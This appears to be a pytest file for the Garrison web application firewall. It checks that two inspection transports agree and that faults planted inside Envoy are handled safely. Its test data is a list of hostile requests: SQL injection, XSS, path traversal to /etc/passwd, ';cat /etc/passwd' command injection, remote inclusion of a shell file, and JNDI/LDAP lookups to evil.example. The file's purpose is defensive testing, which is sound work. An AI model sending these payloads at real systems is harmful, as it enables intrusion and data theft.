"""Both transports of the firewall: the same verdicts, the same answers, the same logs; and what becomes of a fault inside Envoy."""

from __future__ import annotations

import contextlib
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest

from bench.waf_corpus import corpus
from bench.waf_transports import compare, sides, wire
from garrison.edge.inspect import WebRequest
from tests.support.fronts import ACL, Application, Front, eventually, metrics, needs_module, protected
from tests.support.server import free_port

FORM = (b"content-type", b"application/x-www-form-urlencoded")
JSON = (b"content-type", b"application/json")
ATTACKS = [
    WebRequest(method, target, [(b"User-Agent", b"Mozilla/5.0"), *headers], body, source_ip="")
    for method, target, headers, body in [
        ("GET", b"/?id=1%27%20or%201=1--", [], b""),
        ("GET", b"/?q=%3Cscript%3Ealert(1)%3C/script%3E", [], b""),
        ("GET", b"/?file=../../../../etc/passwd", [], b""),
        ("GET", b"/?page=http://203.0.113.7/shell.txt%3f", [], b""),
        ("GET", b"/?cmd=;cat%20/etc/passwd", [], b""),
        ("GET", b"/?x=$%7Bjndi:ldap://evil.example/a%7D", [], b""),
        ("GET", b"/admin/wp-login.php.bak", [], b""),
        ("GET", b"/%2e%2e/%2e%2e/windows/win.ini", [], b""),
        ("POST", b"/", [FORM], b"name=x&comment=%27%20union%20select%20password%20from%20users--"),
        ("POST", b"/", [JSON], b'{"a": {"b": ["<img src=x onerror=alert(1)>"]}}'),
        ("POST", b"/", [JSON], b"[" * 3000),
        ("POST", b"/", [FORM], b"a=" + b"x" * 8190 + b"&id=1' or 1=1--"),
        ("POST", b"/", [FORM], b"a=" + b"x" * 65_534),
        ("POST", b"/", [FORM], b"a=" + b"x" * 65_535),
        ("POST", b"/", [], bytes(range(256)) * 300),
        ("PUT", b"/big", [], b"x" * 100_001),
        ("POST", b"/", [], b"attack-in-body"),
        ("GET", b"/", [(b"X-Bytes", b"caf\xc3\xa9\xff")], b""),
        ("GET", b"/", [(b"X-Twice", b"one"), (b"X-Twice", b"two")], b""),
        ("GET", b"/", [(b"X-B", b"1"), (b"X-A", b"1")], b""),
        ("GET", b"/", [(b"Cookie", b"a=1"), (b"Cookie", b"b=2")], b""),
        ("GET", b"/", [(b"X-Garrison-Request", b"R0VUCi8=")], b""),
        ("GET", b"/", [(b"X-Envoy-Retry-On", b"5xx"), (b"X-Envoy-Peer", b"${jndi:ldap://a}")], b""),
        ("GET", b"/", [(b"User-Agent", b"")], b""),
        ("GET", b"/closed", [], b""),
        ("GET", b"/two-hundred", [], b""),
        ("GET", b"/marked", [(b"X-Amzn-Waf-Seen", b"forged")], b""),
        ("HEAD", b"/forbidden", [], b""),
        ("HEAD", b"/closed", [], b""),
        ("OPTIONS", b"*", [], b""),
        ("TRACE", b"/", [], b""),
        ("DELETE", b"/forbidden", [], b""),
        ("GET", b"/" + b"a" * 20_000, [], b""),
        ("POST", b"/", [(b"Content-Encoding", b"deflate")], b"x"),
        ("GET", b"/_garrison/waf/puzzle?kind=nothing", [], b""),
    ]
]
SAMPLES = [
    WebRequest(
        each.method,
        each.target.encode(),
        [(name.encode(), value.encode()) for name, value in each.headers],
        each.body,
        source_ip="",
    )
    for each in corpus(200, seed=7)
]


def test_both_transports_give_the_same_verdicts_answers_and_logs(tmp_path: Path):
    needs_module()
    with sides(tmp_path) as (one, other):
        wrong, found = compare(one, other, [wire(each, number) for number, each in enumerate(ATTACKS + SAMPLES)])
    assert wrong == []
    assert found["requests"] == len(ATTACKS) + len(SAMPLES)
    assert found["BLOCK"] >= 20
    assert found["ALLOW"] >= 180


# Faults inside Envoy

FAULTS = """
    import os, time

    def plant():
        from garrison.edge.proxy.judge import Judge

        whole = Judge.decide

        def decide(self, request):
            if request.path == b"/raise":
                raise ValueError("planted")
            if request.path == b"/crash":
                os.abort()
            if request.path == b"/hang":
                time.sleep(3600)
            return whole(self, request)

        Judge.decide = decide

    if "GARRISON_INSIDE_STATE" in os.environ:
        plant()
"""
"""Python's own hook at its start, in Envoy alone: faults that no request is known to cause."""


@contextlib.contextmanager
def faulty(folder: Path, *options: str) -> Iterator[tuple[Front, Application, int]]:
    needs_module()
    planted = folder / "planted"
    planted.mkdir()
    (planted / "sitecustomize.py").write_text(textwrap.dedent(FAULTS))
    port = free_port()
    environment = {"PYTHONPATH": f"{planted}:{_path()}"}
    with protected(folder / "front", ACL, "--metrics", str(port), *options, environment=environment, transport="in-process") as (
        front,
        application,
    ):
        yield front, application, port


def _path() -> str:
    import garrison  # noqa: PLC0415 - for its place alone

    return str(Path(garrison.__file__).parents[1])


def failed(port: int) -> float:
    return metrics(port).get('garrison_waf_events_total{event="inspection_failed"}', 0)


def restarted(port: int) -> float:
    return metrics(port).get('garrison_waf_events_total{event="envoy_restarted"}', 0)


def test_what_cannot_be_decided_inside_envoy_is_refused(tmp_path: Path):
    with faulty(tmp_path) as (front, application, port):
        assert front.ask("/raise").status == 500
        assert front.ask("/raise", method="POST", body=b"x").status == 500
        assert application.requests == []
        assert front.ask("/").status == 200
        assert "planted" in front.log()
        eventually(lambda: failed(port) == 2)


def test_what_cannot_be_decided_inside_envoy_passes_where_the_operator_says_so(tmp_path: Path):
    with faulty(tmp_path, "--fail-open") as (front, application, port):
        assert front.ask("/raise", method="POST", body=b"whole").status == 200
        assert application.requests[0].endswith(b"whole")
        assert front.ask("/forbidden").status == 403
        eventually(lambda: failed(port) == 1)


@pytest.mark.parametrize("fault", ["/crash", "/hang"])
def test_a_crash_or_a_hang_inside_envoy_passes_nothing_and_envoy_is_started_again(tmp_path: Path, fault: str):
    with faulty(tmp_path, "--fail-open") as (front, application, port):
        with contextlib.suppress(OSError, IndexError):
            front.ask(fault)

        def again() -> bool:
            with contextlib.suppress(OSError, IndexError):
                return front.ask("/").status == 200
            return False

        eventually(again, 60)
        assert all(fault.encode() not in each for each in application.requests)
        assert front.ask("/forbidden").status == 403
        eventually(lambda: restarted(port) >= 1)


def test_without_a_compiler_it_is_said_and_auto_takes_the_other_way(tmp_path: Path):
    environment = {"CC": "no-such-compiler"}
    with Application() as application:
        with pytest.raises(RuntimeError, match="there is no C compiler"):
            Front(tmp_path / "one", application.url, ACL, (), environment, transport="in-process").start()
        with Front(tmp_path / "two", application.url, ACL, ("--inspectors", "1"), environment, transport="auto") as front:
            assert "no C compiler" in front.log()
            assert front.ask("/forbidden").status == 403
            assert len(front.children()["inspector"]) == 1
